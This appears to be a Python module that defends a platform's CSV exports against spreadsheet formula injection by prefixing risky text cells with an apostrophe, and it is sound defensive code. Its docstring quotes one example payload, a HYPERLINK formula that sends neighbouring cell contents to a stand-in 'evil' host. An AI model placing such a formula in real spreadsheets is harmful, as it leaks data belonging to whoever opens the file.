"""The one CSV writer of the platform: cells a spreadsheet would run as formulas are escaped.

A CSV opened in Excel, WPS or LibreOffice treats a cell that begins with ``=``, ``+``, ``-``
or ``@`` (and, in some of them, a tab or carriage return before one) as a formula: a
registry row whose address is ``=HYPERLINK("http://evil/?"&A1, "点击")`` becomes a link
that leaks the neighbouring cells, or worse (DDE). Following OWASP's CSV injection
guidance, every text cell that begins with one of those characters is written with a
leading apostrophe, which spreadsheets show as text and do not display; the csv module
quotes cells that need it. Numbers (``int``, ``float``, ``Decimal``) are written as they are:
``-3.5`` as a number is data, not a formula.

Every CSV the platform writes goes through :func:`writer` (grep for ``csv.writer``: this
module should be the only hit besides readers).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

#: The characters a spreadsheet may read as the start of a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def escape_cell(value: Any) -> Any:
    """``value`` as it may stand in a cell: text that would start a formula gets a leading ``'``."""
    if value is None or isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def unescape_cell(text: str) -> str:
    """Undo :func:`escape_cell` when a file this platform wrote is loaded back."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeWriter:
    """``csv.writer`` with every cell passed through :func:`escape_cell`."""

    def __init__(self, inner: _Writer) -> None:
        self._inner = inner

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._inner.writerow([escape_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    """A CSV writer on ``out`` (a text stream opened with ``newline=""``) that escapes formula cells."""
    kwargs.setdefault("lineterminator", "\n")
    return SafeWriter(csv.writer(out, **kwargs))
